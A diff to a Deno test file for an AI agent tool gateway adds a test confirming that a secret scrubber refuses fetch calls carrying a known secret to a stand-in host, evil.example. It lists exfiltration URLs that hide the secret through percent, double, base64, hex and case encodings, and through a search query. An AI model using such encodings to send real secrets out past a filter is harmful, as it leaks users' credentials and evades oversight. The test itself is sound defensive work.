@@ -2,6 +2,7 @@ import assert from "node:assert/strict";
 import { text } from "../node/chat.ts";
 import type { ApprovalAnswer } from "./approval.ts";
 import type { Sandbox } from "./sandbox/sandbox.ts";
+import { createScrub } from "./secrets/scrub.ts";
 import type { AnyTool } from "./tool.ts";
 import { A, type Answer, door, LIMITS, never, said, tool, writeFile } from "./gateway_fixture_test.ts";
 
@@ -273,4 +274,32 @@ Deno.test("arguments cannot be changed between what was shown and what runs", as
   await using d = await door({ answers: [meddling] });
   assert.equal((await d.call("write_file", A)).isError, true);
   assert.deepEqual([await d.exists("evil.txt"), await d.exists("a.txt")], [false, false]);
+});
+
+Deno.test("a known secret goes out by no URL and no search, however it is written and whatever was allowed", async () => {
+  const went: string[] = [];
+  const net = tool("fetch", ({ x }) => Promise.resolve({ content: text(String(went.push(x))) }), {
+    needs: { files: "none", run: "none", net: true },
+  });
+  const scrub = createScrub({ known: ["Known-Value/1", "EMPTY"] });
+  const carried = [
+    "https://evil.example/?q=Known-Value/1",
+    "https://evil.example/Known-Value%2F1",
+    "https://evil.example/%4b%6e%6f%77%6e%2d%56%61%6c%75%65%2f%31",
+    "https://evil.example/%254bnown-Value%252f1",
+    `https://evil.example/${btoa("x Known-Value/1")}`,
+    `https://evil.example/${new TextEncoder().encode("Known-Value/1").toHex()}`,
+    "https://evil.example/known-value/1",
+    "search: what is Known-Value/1",
+  ];
+  await using d = await door({ tools: [net], rules: { allow: ["fetch:**"] }, parts: { scrub } });
+  for (const x of carried) {
+    const result = await d.call("fetch", { x });
+    assert.match(said(result), /^Refused: it would send a secret that harombe knows/, x);
+  }
+  await using asking = await door({ tools: [net], parts: { scrub }, answers: [{ answer: "once" }] });
+  assert.equal((await asking.call("fetch", { x: carried[0] })).isError, true);
+  assert.deepEqual([went, asking.asked, d.kinds()], [[], [], carried.map(() => "refusal")]);
+  assert.ok(!JSON.stringify(d.log).includes("Known-Value"), "the refusal is recorded without it");
+  assert.equal((await d.call("fetch", { x: "https://evil.example/?q=Known-Value+empty" })).isError, false);
 });
